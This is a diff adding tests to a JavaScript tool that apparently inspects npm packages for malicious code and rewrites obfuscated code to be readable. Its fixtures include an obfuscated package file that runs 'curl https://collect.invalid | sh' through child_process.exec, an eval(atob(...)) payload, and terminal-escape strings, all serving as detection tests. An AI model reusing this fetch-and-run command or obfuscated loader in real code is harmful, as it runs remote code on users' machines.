@@ -92,6 +92,51 @@ describe('stowaway show', () => {
     expect((await showIn(copies, 'thief')).out).toMatch(/^thief@1\.2\.3: malicious/);
   });
 
+  const table = Array.from({ length: 9 }, (_, at) => `'part${at}'`).join(',');
+  const looked = Array.from({ length: 6 }, (_, at) => `_0x3c4d(${at + 3})`).join(',');
+  const obfuscated = {
+    ...files,
+    'node_modules/thief/index.js': [
+      `function _0x1a2b(){return ['child_process','exec','curl https://collect.invalid | sh',${table}];}`,
+      'function _0x3c4d(_0x5e){return _0x1a2b()[_0x5e];}',
+      'const _0x6f=require(_0x3c4d(0));if(!![])_0x6f[_0x3c4d(1)](_0x3c4d(2));',
+      `exports['names']=[${looked}];\n`,
+    ].join(''),
+  };
+
+  test('--readable rewrites code, and marks in it what was found in the original and in its layers', async () => {
+    const { code, out } = await showIn(obfuscated, 'thief', 'index.js', '--readable');
+    expect(code).toBe(0);
+    expect(out).toContain('(rewritten to be read)');
+    expect(out).toMatch(/│ childProcess\.exec\('curl https:\/\/collect\.invalid \| sh'\);\n +▲ sink/);
+    expect(out).not.toMatch(/_0x|╭─/);
+    expect((await showIn(obfuscated, 'thief', 'index.js')).out).toContain('_0x');
+  });
+
+  test('--readable still opens what is decoded, and rewrites that', async () => {
+    const { out } = await show('thief', '--readable');
+    expect(out).toMatch(/╭─ text decoded by base64[\s\S]*│ {8}\(rewritten to be read\)\n {7}│ {5}1 │ fetch\(/);
+  });
+
+  test.each([
+    ['what no parser takes', `eval(atob('${Buffer.from(hidden).toString('base64')}')); }{`, 'not rewritten: '],
+    [
+      'what is too long',
+      `${files['node_modules/thief/index.js']}//${'x'.repeat(500_001)}`,
+      'too large to be laid out: 501',
+    ],
+  ])('--readable says why it does not rewrite %s', async (_, text, says) => {
+    const { out } = await showIn({ ...files, 'node_modules/thief/index.js': text }, 'thief', '--readable');
+    expect(out).toContain(says);
+  });
+
+  test('--readable escapes what comes from the package', async () => {
+    const text = `${files['node_modules/thief/index.js']}f('\\u202e\\u001b[2J', /\u202e/, \`\u001b[2J\`); /* \u202e\u001b[2J */\n`;
+    const { out } = await showIn({ ...files, 'node_modules/thief/index.js': text }, 'thief', 'index.js', '--readable');
+    expect(out).toContain('\\u202e');
+    expect(out).not.toMatch(/[\u001b\u202e]/);
+  });
+
   test('escapes what comes from the package', async () => {
     const evil = {
       ...files,
